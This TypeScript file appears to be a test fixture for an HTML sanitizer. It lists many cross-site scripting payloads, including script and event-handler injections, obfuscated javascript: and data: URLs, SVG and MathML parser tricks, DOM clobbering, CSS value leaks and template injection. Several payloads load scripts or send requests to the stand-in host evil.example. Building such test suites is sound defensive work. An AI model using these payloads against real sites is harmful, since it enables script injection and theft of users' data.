/** What every payload runs: it sets `pwned`. */
const run = "window.pwned=1";
const away = "https://evil.example";

const elements = [
  "img",
  "p",
  "a",
  "iframe",
  "svg",
  "math",
  "video",
  "audio",
  "body",
  "details",
  "input",
  "marquee",
];
const events = [
  "error",
  "load",
  "toggle",
  "focus",
  "mouseover",
  "pointerenter",
  "animationstart",
  "begin",
  "beforetoggle",
  "scrollend",
  "wheel",
  "contentvisibilityautostatechange",
];

/** Attribute syntax that parsers interpret differently. */
const writtenAttributes = [
  ` on@="${run}"`,
  ` on@='${run}'`,
  ` on@=${run}`,
  `/on@=${run}/`,
  `\non@\n=\n${run}`,
  `\ton@\f=${run}`,
  ` ON@="${run}"`,
  ` on@="&#119;indow.pwned=1"`,
  ` x="" on@="${run}"`,
  ` x='>' on@="${run}"`,
  ` x=\`"\` on@="${run}"`,
  ` "on@="${run}"`,
];

/** Each element and each syntax once: the property of the sanitizer has all of them together. */
const handlers = writtenAttributes.map((written, at) => {
  const element = elements[at % elements.length] ?? "img";
  const event = events[(at * 5) % events.length] ?? "error";
  return `<${element} src=x tabindex=0 autofocus open${written.replaceAll("@", event)}>words</${element}>`;
});

const schemes = [
  "javascript:",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,",
  "data:image/svg+xml,",
  "blob:",
  "view-source:javascript:",
];

/** Obfuscated URL schemes. */
const hidden: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => ` ${scheme}`,
  (scheme) => `\x01${scheme}`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}`,
  (scheme) => scheme.replace(":", "&colon;"),
  (scheme) => scheme.replace(/^./, (letter) => `&#${letter.charCodeAt(0)};`),
  (scheme) => scheme.replace(/^./, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (scheme) => scheme.replace(/^./, (letter) => `&#00000${letter.charCodeAt(0)};`),
  (scheme) => `\u00a0${scheme}`,
  (scheme) => `\ufeff${scheme}`,
  (scheme) => encodeURIComponent(scheme),
];
const script = `<script>${run}</script>`;
const addresses = hidden.map((hide, at) => {
  const scheme = schemes[at % schemes.length] ?? "javascript:";
  const rest = scheme.includes("html") || scheme.includes("svg") ? script : run;
  return `<a href="${hide(scheme)}${rest}">words</a>`;
});

/** Balanced HTML: several payloads fit into one body. */
export const hostileHtml: Record<string, readonly string[]> = {
  "script elements": [
    script,
    `<SCRIPT SRC="${away}/x.js"></SCRIPT>`,
    `<script type=module>import "${away}/x.js"</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script\u2028>${run}</script>`,
    `<script/x>${run}</script/x>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `<script>/*</script><script>${run}//*/</script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:text/javascript,${run}"/></svg>`,
    `<svg><script xlink:href="${away}/x.js"></script></svg>`,
  ],
  "event handlers": handlers,
  addresses,
  "other addresses": [
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
    `<iframe src="${away}"></iframe>`,
    `<iframe src="https://www.youtube.com.evil.example/embed/aBcDeFgHiJk"></iframe>`,
    `<iframe src="https://www.youtube.com@evil.example/embed/aBcDeFgHiJk"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    `<form action="javascript:${run}"><button>words</button></form>`,
    `<button formaction="javascript:${run}" type=submit>words</button>`,
    `<base href="${away}/"><a href="x">words</a>`,
    `<meta http-equiv=refresh content="0;url=${away}">`,
    `<link rel=stylesheet href="${away}/x.css">`,
    `<link rel=preload as=script href="${away}/x.js">`,
    `<link rel=dns-prefetch href="${away}">`,
    `<img srcset="${away}/x.png 1x">`,
    `<picture><source srcset="${away}/x.png"><img></picture>`,
    `<video poster="${away}/x.png"><source src="${away}/x.mp4"></video>`,
    `<audio src="${away}/x.mp3" autoplay></audio>`,
    `<input type=image src="${away}/x.png">`,
    `<table background="${away}/x.png"><tr><td background="${away}/x.png">words</table>`,
    `<a href="/" ping="${away}">words</a>`,
    `<a href="//evil.example">words</a>`,
    `<a href="/\\evil.example">words</a>`,
    `<a href="/\t/evil.example">words</a>`,
    `<a href="https:evil.example" target=_blank rel=opener>words</a>`,
    `<a href="/%0d%0ax:1" download=x.html>words</a>`,
    `<track src="${away}/x.vtt">`,
  ],
  "pictures that are programs": [
    `<svg onload="${run}"></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate></svg>`,
    `<svg><set attributeName=href to="javascript:${run}"></set></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${run}"></animate><text y=9>words</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a/></svg>#x"></use></svg>`,
    `<svg><image href="${away}/x.png"></image></svg>`,
    `<svg><image href=x onerror="${run}"></image></svg>`,
    `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
    `<svg><style>@import "${away}/x.css";</style></svg>`,
    `<svg><feImage href="${away}/x.svg"></feImage></svg>`,
    `<svg><discard onbegin="${run}"></discard></svg>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>">`,
  ],
  formulas: [
    `<math href="javascript:${run}">words</math>`,
    `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${run}">words</maction></math>`,
    `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
    `<math><mi xlink:href="data:x,${script}">words</mi></math>`,
  ],
  "what changes when it is read again": [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<svg><desc><style><p title="</style><img src=x onerror=${run}>"></desc></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<noscript><style></noscript><img src=x onerror=${run}>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
    `<table><caption><svg><title><table><style><img title="</style><img src=x onerror=${run}>"></table>`,
    `<p><svg><desc><p></desc></svg><style><!--</style><img src=x onerror=${run}>--></p>`,
    `<svg><title><style><!--</style></title><img src=x onerror=${run}>--></svg>`,
    `<a href="/"><table><a href="javascript:${run}">words</table></a>`,
    `<b><p title="</b><img src=x onerror=${run}>">words</p></b>`,
    `<p title="&quot;><img src=x onerror=${run}>">words</p>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
    `<!-- --!><img src=x onerror=${run}> -->`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[><img src=x onerror=${run}>]]>`,
    `<?x <img src=x onerror=${run}> ?>`,
    `<% <img src=x onerror=${run}> %>`,
  ],
  styles: [
    `<style>body{display:none}@import "${away}/x.css"</style>`,
    `<p style="background:url(${away}/x.png)">words</p>`,
    `<p style="position:fixed;inset:0;z-index:99999">words</p>`,
    `<p style="width:expression(${run})">words</p>`,
    `<p style="behavior:url(${away}/x.htc);-moz-binding:url(${away}/x.xml#x)">words</p>`,
    `<p style="animation:x" onanimationend="${run}">words</p>`,
    `<p style="--x:url(${away}/x.png);background:var(--x)">words</p>`,
    `<p class="toast drawer spinner ql-align-center">words</p>`,
    `<style>input[value^=a]{background:url(${away}/a)}</style>`,
  ],
  templates: [
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{7*7}}",
    "$" + "{window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "[[window.pwned=1]]",
    "{%raw%}{{window.pwned=1}}{%endraw%}",
    `<p ng-app ng-csp ng-click="${run}" v-html="x" x-data="{}" x-init="${run}">words</p>`,
    `<p data-needs-react data-typewriter data-theme-switch data-session="in">words</p>`,
    `<a class="video" data-video="javascript:${run}" href="/">words</a>`,
    `<a class="video" data-video="${away}/" href="/">words</a>`,
    `<template shadowrootmode=open><script>${run}</script></template>`,
  ],
  "names that hide others": [
    `<form id=state name=state><input name=textContent value='{"loaderData":{}}'></form>`,
    `<p id="shell">{"settings":{}}</p>`,
    `<p id="dashboard">words</p>`,
    `<img name=getElementById><img name=querySelector><img name=cookie><img name=body>`,
    `<a id=location href="javascript:${run}">words</a>`,
    `<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>`,
    `<form name=document><input name=documentElement></form>`,
    `<iframe name=localStorage srcdoc="x"></iframe>`,
    `<p id="__proto__">words</p><p id="constructor">words</p>`,
    `<object id=navigator></object><embed name=addEventListener>`,
  ],
  "odd characters": [
    `\u202e<script>${run}</script>\u202c`,
    `\u2066<img src=x onerror=${run}>\u2069`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `\u02c2script\u02c3${run}\u02c2/script\u02c3`,
    `\u00bcscript\u00be${run}\u00bc/script\u00be`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `<scr\u00adipt>${run}</scr\u00adipt>`,
    `<\u200bscript>${run}</script>`,
    `<img\u00a0src=x\u00a0onerror=${run}>`,
    `<img src=x\u3000onerror=${run}>`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
    `</script><script>${run}</script>`,
    `</textarea></title></style></noscript><img src=x onerror=${run}>`,
    `"><img src=x onerror=${run}>`,
    `'><img src=x onerror=${run}>`,
    `" autofocus onfocus="${run}" x="`,
    `--><img src=x onerror=${run}>`,
    `]]><img src=x onerror=${run}>`,
    `\u2028${run}\u2029`,
  ],
};

/** Unbalanced HTML: only one per body, at its end. */
export const openEnded: readonly string[] = [
  `<script>${run}`,
  `<script>${run}<!--`,
  `<img src=x onerror=${run}`,
  `<img src="x onerror=${run}`,
  `<a href="javascript:${run}`,
  `<p title="`,
  "<!--",
  `<!-- --!><img src=x onerror=${run}>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<textarea><img src=x onerror=${run}>`,
  `<title><img src=x onerror=${run}>`,
  `<style><img src=x onerror=${run}>`,
  `<noscript><img src=x onerror=${run}>`,
  `<iframe><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}>`,
  `<svg><style><img src=x onerror=${run}>`,
  `<math><style><img src=x onerror=${run}>`,
  `<select><img src=x onerror=${run}>`,
  `<frameset onload=${run}>`,
  `${"<svg>".repeat(90)}<script>${run}`,
  `${"<p>".repeat(600)}<img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>`,
];

/** Linked pictures: the server rejects them, and the editor loads nothing. */
export const linkedPictures: readonly string[] = [
  `<p>linked <img src="https://evil.example/x.png"></p>`,
  `<p>linked <img src='//evil.example/y.png' alt='"><script>${run}</script>' onload="${run}"></p>`,
];

/** All payloads that the server stores. */
export const untrustedForms: readonly string[] = Object.values(hostileHtml).flat();
